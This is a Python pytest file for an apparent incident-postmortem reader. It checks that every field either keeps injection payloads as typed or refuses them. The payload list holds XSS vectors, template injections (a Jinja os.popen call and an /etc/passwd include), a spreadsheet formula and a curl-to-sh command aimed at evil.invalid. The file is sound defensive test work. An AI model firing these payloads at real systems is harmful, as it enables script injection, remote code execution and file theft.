"""Markup and templates in every field: refused, or kept as they were typed."""

import json
from collections.abc import Callable

import pytest

from postmortems.model import Incident
from postmortems.reading.incident import read
from postmortems.settings import Settings
from tests.reading.cases import GOOD_ID, Edits, edited

PAYLOADS = {
    # -- elements
    "a script": "<script>alert(1)</script>",
    "a script with a slash": "<script/x>alert(1)</script>",
    "a script of another host": "<script src=https://evil.invalid/x.js></script>",
    "an import map": '<script type="importmap">{"imports":{}}</script>',
    "an image that fails": "<img src=x onerror=alert(1)>",
    "a video that fails": "<video><source onerror=alert(1)></video>",
    "a body": "<body onload=alert(1)>",
    "an open detail": "<details open ontoggle=alert(1)>",
    "a field that takes the focus": "<select autofocus onfocus=alert(1)>",
    "an unknown element": "<x-y onclick=alert(1) tabindex=0>",
    "a shadow root": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=javascript:alert(1)></object>",
    "a form": "<form action=javascript:alert(1)><button>x</button></form>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "a style sheet": "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "a style": "<style>@import 'https://evil.invalid/x.css';*{display:none}</style>",
    "a drawing": "<svg onload=alert(1)><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "a drawing that reuses another": "<svg><use href='data:image/svg+xml,x#a'/></svg>",
    "an id of the theme's": "<input id=__search type=checkbox checked>",
    # -- the way out of where a text may stand
    "the end of an attribute, double": '" onmouseover=alert(1) x="',
    "the end of an attribute, single": "' onmouseover=alert(1) x='",
    "the end of an attribute, bare": "x onmouseover=alert(1)",
    "the end of a script": "</script><script>alert(1)</script>",
    "the end of a JavaScript string": "';alert(1)//",
    "a JavaScript template": "${alert(1)}`",
    "the end of a CDATA section": "]]><script>alert(1)</script>",
    "the end of a comment": "--><script>alert(1)</script><!--",
    "the end of an SVG text": "</text><script>alert(1)</script>",
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "a document type": "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    # -- Markdown
    "a link to a script": "[x](javascript:alert(1))",
    "a link to a script, with an entity": "[x](java&#115;cript:alert(1))",
    "a link to a script, with a named entity": "[x](javascript&colon;alert(1))",
    "a link to data": "[x](data:text/html,<script>alert(1)</script>)",
    "a link to a file": "[x](file:///etc/passwd)",
    "a link without a scheme": "[x](//evil.invalid)",
    "a link with backslashes": r"[x](\\evil.invalid)",
    "a link that looks like another": "[https://good.example](https://evil.invalid)",
    "a link whose title ends": "[x](https://ok.example '\" onclick=alert(1)')",
    "an image": "![x](https://evil.invalid/x.png)",
    "an attribute list": "x {: onclick=alert(1) }",
    "an attribute list of a paragraph": "x {#__config .md-header }",
    "an include": "--8<-- '.git/config'",
    "a code block's attributes": "``` {=html}",
    "a diagram": "%%{init: {'securityLevel': 'loose'}}%%",
    "an abbreviation": "*[HTML]: <script>alert(1)</script>",
    "an admonition": "!!! note '<script>alert(1)</script>'",
    "a table of contents": "[TOC]",
    "an emoji": ":smile: :material-fire:",
    "highlighted code": "`#!html <script>`",
    # -- templates
    "a Jinja expression": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "a Jinja statement": "{% include '/etc/passwd' %}",
    "an Angular expression": "{{constructor.constructor('alert(1)')()}}",
    # -- encodings
    "an entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "an entity of an entity": "&amp;lt;script&amp;gt;",
    "wide angle brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a long s": "<\u017fcript>alert(1)</\u017fcript>",
    # -- many at once
    "a polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</scRipt/--!>",
    # -- spreadsheets, shells, regular expressions
    "a formula": "=HYPERLINK('https://evil.invalid','x')",
    "a command": "$(curl https://evil.invalid) `id` | sh",
}

FIELDS: dict[str, tuple[Callable[[str], Edits], Callable[[Incident], str | None]]] = {
    "title": (lambda v: {1: f"title: {v}"}, lambda i: i.title),
    "organisation": (lambda v: {3: f"organisation: {v}"}, lambda i: i.organisation),
    "reason": (
        lambda v: {3: f"withdrawn: {{on: 2025-05-02, reason: {v}}}"},
        lambda i: i.withdrawn.reason if i.withdrawn else None,
    ),
    "factor": (lambda v: {3: f"contributing_factors: [{v}]"}, lambda i: i.contributing_factors[0]),
    "lesson": (lambda v: {3: f"lessons: {{went_well: [{v}]}}"}, lambda i: i.lessons.went_well[0]),
    "impact": (lambda v: {11: f"  impact: {v}"}, lambda i: i.summary.impact),
    "root cause in the summary": (lambda v: {13: f"  root_cause: {v}"}, lambda i: i.summary.root_cause),
    "entry": (lambda v: {19: f"  - action: {v}"}, lambda i: i.timeline[1].text),
    "to": (lambda v: {23: f"    to: {v}"}, lambda i: i.timeline[3].to),
    "root cause": (lambda v: {29: f"root_cause: {v}", **dict.fromkeys(range(30, 33))}, lambda i: i.root_cause),
    "resolution": (lambda v: {33: f"resolution: {v}", 34: None}, lambda i: i.resolution),
    "improvement": (lambda v: {38: f"    - {v}"}, lambda i: i.improvements[0]),
    "task": (lambda v: {40: f"    - task: {v}"}, lambda i: i.tasks[0].task),
    "owner": (lambda v: {41: f"      owner: {v}"}, lambda i: i.tasks[0].owner),
    "dropped": (lambda v: {43: f"      dropped: {v}"}, lambda i: i.tasks[0].dropped),
    # Its text is one of several; the quote that opens it comes before the number.
    "share of what": (lambda v: {12: f"  users_affected: {v[0]}5% of {v[1:]}"}, lambda i: i.users_affected.of),
}
"""For each field that takes any text: where it stands, and what comes of it."""


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_is_kept_as_it_was_typed_or_refused(payload: str, field: str) -> None:
    typed = PAYLOADS[payload]
    place, value = FIELDS[field]
    text = edited(place(json.dumps(typed, ensure_ascii=False)))
    reading = read(text.encode(), path="incident.yaml", id_=GOOD_ID, settings=Settings())
    if reading.incident is None:
        # Nothing in them is wrong but their length, where a field has one.
        assert {"text-length"} == {problem.code for problem in reading.problems}
    else:
        assert typed == value(reading.incident)


CLOSED: dict[str, tuple[Callable[[str], Edits], str]] = {
    "severity": (lambda v: {3: f"severity: {v}"}, "unknown-word"),
    "tag": (lambda v: {2: f"tags: [{v}]"}, "slug"),
    "service": (lambda v: {9: f"    {v}: degraded"}, "slug"),
    "what happened to a service": (lambda v: {9: f"    checkout: {v}"}, "unknown-word"),
    "source": (lambda v: {3: f"sources: [{v}]"}, "address"),
    "related": (lambda v: {3: f"related: [{v}]"}, "id-form"),
    "alias": (lambda v: {3: f"aliases: [{v}]"}, "id-form"),
    "start": (lambda v: {5: f"  start: {v}"}, "time-form"),
    "timezone": (lambda v: {7: f"  timezone: {v}"}, "time-zone"),
    "users affected": (lambda v: {12: f"  users_affected: {v}"}, "share-form"),
    "by": (lambda v: {18: f"    by: {v}"}, "unknown-word"),
    "due": (lambda v: {42: f"      due: {v}"}, "day-form"),
    "link": (lambda v: {43: f"      link: {v}"}, "address"),
}
"""Fields that take no free text, and what they answer."""


@pytest.mark.parametrize("field", CLOSED)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_field_that_takes_no_free_text_refuses_it(payload: str, field: str) -> None:
    place, code = CLOSED[field]
    text = edited(place(json.dumps(PAYLOADS[payload], ensure_ascii=False)))
    reading = read(text.encode(), path="incident.yaml", id_=GOOD_ID, settings=Settings(severities=("critical",)))
    assert code in {problem.code for problem in reading.problems}
